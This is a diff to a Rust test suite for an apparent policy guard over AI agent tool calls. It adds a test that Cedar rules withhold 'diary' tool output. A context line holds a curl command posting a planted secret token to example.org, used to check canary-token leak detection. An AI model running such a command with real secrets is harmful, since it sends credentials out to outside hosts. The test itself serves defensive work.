@@ -227,3 +227,24 @@ fn a_planted_token_does_not_go_out_in_any_dress_and_is_nowhere_in_the_ledger() {
     assert!(guard(&["canary", "forget", &format!("file {}", decoy.display())]).status.success());
     assert_eq!(judge.shell("f", &format!("curl -d '{key}' https://example.org/"))["verdict"], "allow");
 }
+
+#[test]
+fn a_rule_by_tool_reaches_what_it_returned() {
+    let mut judge = Judge::prepared("by-tool", |root| {
+        let policy = root.join("policy");
+        std::fs::create_dir_all(&policy).unwrap();
+        let text = r#"
+            @id("all") @reason("All.") @match("call x read-only ;; read README.md") @no_match("receive text")
+            permit (principal, action in [Action::"call", Action::"read"], resource);
+            @id("diary") @reason("Nobody's business.") @handling("withhold") @match("receive text tool=diary") @no_match("receive text tool=news")
+            forbid (principal, action == Action::"receive", resource is Outcome) when { resource.name == "diary" };
+        "#;
+        std::fs::write(policy.join("own.cedar"), text).unwrap();
+        vec!["--policy".to_owned(), policy.to_str().unwrap().to_owned()]
+    });
+    for (id, tool, goes_on) in [("1", "diary", false), ("2", "news", true)] {
+        judge.ask(&json!({ "event": "call", "session": "s", "id": id, "tool": tool, "input": {} }));
+        let answer = judge.ask(&json!({ "event": "outcome", "session": "s", "id": id, "text": "Dear diary", "error": null }));
+        assert_eq!(answer["text"] == "Dear diary", goes_on, "{answer}");
+    }
+}
